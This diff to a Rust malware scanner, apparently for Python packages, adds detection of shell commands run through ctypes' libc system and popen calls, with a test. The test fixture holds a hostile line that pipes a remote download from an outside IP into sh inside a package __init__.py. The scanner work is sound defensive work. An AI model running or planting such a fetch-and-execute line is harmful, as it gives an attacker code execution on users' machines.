@@ -46,6 +46,7 @@ pub fn is_spawn(qualname: &str) -> bool {
             | "ctypes.windll.shell32.ShellExecuteA"
             | "win32api.ShellExecute"
     ) || is_pip_main(q)
+        || is_libc_command(q)
         || (q.starts_with("subprocess.")
             && matches!(
                 q.trim_start_matches("subprocess."),
@@ -59,6 +60,16 @@ pub fn is_spawn(qualname: &str) -> bool {
             ))
         || (q.starts_with("os.exec") && q.len() <= 10)
         || (q.starts_with("os.spawn") && q.len() <= 11)
+}
+
+/// The C library's `system`/`popen` called through ctypes (`ctypes.CDLL(None).system(b'…')`,
+/// `ctypes.cdll.msvcrt.system`): a shell command, with no `subprocess` or `os` in sight.
+fn is_libc_command(qualname: &str) -> bool {
+    qualname.starts_with("ctypes.")
+        && matches!(
+            qualname.rsplit('.').next(),
+            Some("system" | "popen" | "_popen" | "_wsystem")
+        )
 }
 
 /// pip's command-line entry point called in-process (`pip.main(['install', …])`): the same
@@ -1342,6 +1353,15 @@ mod tests {
     #![allow(clippy::expect_used)]
     use super::*;
     use crate::rules::testing::max_severity;
+
+    #[test]
+    fn the_c_librarys_system_through_ctypes_runs_a_command() {
+        let code =
+            "import ctypes\nctypes.CDLL(None).system(b'curl -s http://198.51.100.9/x | sh')\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.8);
+        let other = "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.getpid()\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", other, "WH120"), 0.0);
+    }
 
     #[test]
     fn a_child_given_a_socket_for_its_streams_is_a_reverse_shell() {
